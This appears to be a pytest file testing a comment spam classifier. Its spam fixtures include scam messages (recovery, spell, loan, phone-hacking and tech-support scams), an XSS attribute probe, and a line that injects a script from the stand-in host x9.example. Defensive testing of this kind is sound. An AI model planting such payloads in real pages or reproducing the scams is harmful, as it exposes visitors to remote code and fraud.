"""What was seen to go wrong with models before: each in our own words, judged by the model that is shipped."""

import random

import pytest

from classifiers.registry.versions import Registry
from classifiers.types import ArticleContext, Comment, Verdict

TITLE = ArticleContext(title="Why the ferry stopped calling at the old pier")

SPAM = {
    "recovery": (
        "My savings were locked by a dishonest trading site for five months. Adrian Wells got back every"
        " coin of it. If the "
        "same happened to you, write to wellsrecovery41@gmail.com"
    ),
    "spell": (
        "He walked out after nine years. Priestess Amara prayed over his picture and two days later he "
        "knocked at my door. "
        "WhatsApp her: +2348134455667"
    ),
    "loan": (
        "We give out business and private loans at 3 % interest, no collateral. Apply today: capitaltrustloan@mail.com"
    ),
    "hacker": (
        "Need to see what your partner deletes? Any phone, any account, discreet and fast. Telegram @silentkey_pro"
    ),
    "support": (
        "Printer shows offline? Dial our toll-free number +1 888 555 0143, certified technicians answer day and night."
    ),
    "job": (
        "Earn $250 a day from home with your phone only, no experience. Message the manager on Telegram "
        "@daily_pay_maria"
    ),
    "essay mill": (
        "No time for your thesis? Our writers finish any paper in three days without plagiarism: "
        "paperteam@consultant.com"
    ),
    "guest post": (
        "Do you accept guest posts? We would pay for an article with a dofollow link, mail outreachdesk@gmail.com"
    ),
    "template": (
        "{Hey|Hello} {there|friend}, {what a|such a} {great|lovely} {post|article}! I {will|shall} "
        "{share|save} %KEYWORD%."
    ),
    "blanks": "Hello {{first_name}}, I read [[title]] and thought of {{product}}.",
    "probe": '" onmouseover="alert(77)" x="',
    "script": "var s=document.createElement('script');s.src='//x9.example/a.js';document.body.appendChild(s)",
    "cure": (
        "After years of tablets the herbs of Doctor Ousmane freed me of diabetes for good. Reach him on "
        "WhatsApp +233541234567"
    ),
}

HAM = {
    "loan": "We took a loan for the boat at 6 % and sold it again two years later, never again.",
    "illness": "My mother went over every week for her chemotherapy until they closed the pier.",
    "marriage": "We nearly got divorced over that house on the island. Talking helped, in the end.",
    "telephone": "Ask at the harbour office, the number is 01475 650100, they close at four.",
    "correction": "The council's page gives another date: https://www.inverclyde.gov.uk/ferries/timetable",
    "code": 'The timetable API returns `{"stops": []}` for me, is the pier still in the data?',
    "thanks": "thank you!",
    "year": "I was there in 1986 and it rained all day.",
    "German": "Mein Großvater war dort Kapitän, er hat den Anleger noch mitgebaut.",
    "French": "On prenait ce bac tous les étés, dommage qu'il ne passe plus.",
    "Spanish": "Mi abuela cruzaba con ese barco para ir al mercado.",
    "Portuguese": "O barco das sete já não para lá desde o ano passado.",
    "Italian": "Ci andavamo da bambini, il molo era già mezzo marcio.",
    "Polish": "Pływałem tym promem do szkoły, zimą często nie kursował.",
    "Czech": "Tím přívozem jsme jezdili za babičkou.",
    "Russian": "Мы каждое лето ездили на этом пароме к бабушке.",
    "Ukrainian": "Взимку пором часто не ходив, чекали на морозі.",
    "Turkish": "Çocukken o vapurla karşıya geçerdik, iskele hep kalabalıktı.",
    "Arabic": "كنا نركب هذه العبارة كل صيف مع جدي.",
    "Hindi": "बचपन में हम इसी नाव से स्कूल जाते थे।",
    "Japanese": "子どもの頃、この渡し船で学校に通っていました。運賃は20円でした。",
    "Japanese, Latin words": "adbでログを見たらGPSが3回切れていました。Pixel 7、Android 14です。",
    "Chinese": "小时候坐这条船上学,票价只要5毛。",
    "Korean": "어릴 때 그 배를 타고 학교에 다녔어요.",
    "Vietnamese": "Hồi nhỏ tôi đi học bằng chuyến phà này.",
    "Thai": "ตอนเด็ก ๆ นั่งเรือลำนี้ไปโรงเรียนทุกวัน",
    "Greek": "Με αυτό το καραβάκι πηγαίναμε στο νησί κάθε καλοκαίρι.",
    "Indonesian": "Dulu saya naik feri itu ke sekolah, dermaganya ramai sekali.",
}


@pytest.fixture(scope="module")
def judge(tmp_path_factory):
    return Registry(tmp_path_factory.mktemp("models")).load_base()


@pytest.mark.parametrize("kind", SPAM)
def test_kinds_that_were_never_caught_are_not_allowed(judge, kind):
    [found] = judge.judge([Comment(SPAM[kind], "Martha Stone", links=(), article=TITLE)])
    assert found.verdict is not Verdict.ALLOW


@pytest.mark.parametrize("what", HAM)
def test_what_readers_write_is_never_spam(judge, what):
    signed = [Comment(HAM[what], name, links=None, article=TITLE) for name in (None, "Paco", "Нина", "J. Reid")]
    assert Verdict.SPAM not in {one.verdict for one in judge.judge(signed)}


def test_a_number_in_a_sentence_holds_nobody_up(judge):
    dice = random.Random(12)
    numbers = dice.sample(range(2, 170_000), 500)
    found = judge.judge([Comment(f"I was there in {number} and it rained all day.", "Ann") for number in numbers])
    assert {one.verdict for one in found} == {Verdict.ALLOW}


def test_a_word_that_a_site_links_by_itself_counts_as_the_word(judge):
    bare, linked = (
        Comment("Does it read harbours.net tables, too?", "Lou", links=links, article=TITLE)
        for links in ((), ("http://harbours.net",))
    )
    first, second = judge.judge([bare, linked])
    assert first.probability == second.probability
    assert first.verdict is not Verdict.SPAM


@pytest.mark.parametrize(
    "home", ["https://mastodon.social/@nina", "https://xn--80aaxgddpfkn.xn--p1ai/", "https://нинапишет.рф/"]
)
def test_a_reader_s_home_in_any_script_never_makes_spam(judge, home):
    texts = [HAM[what] for what in ("Russian", "year", "German", "Japanese", "thanks")]
    found = judge.judge([Comment(text, "Нина", home, links=(), article=TITLE) for text in texts])
    assert Verdict.SPAM not in {one.verdict for one in found}
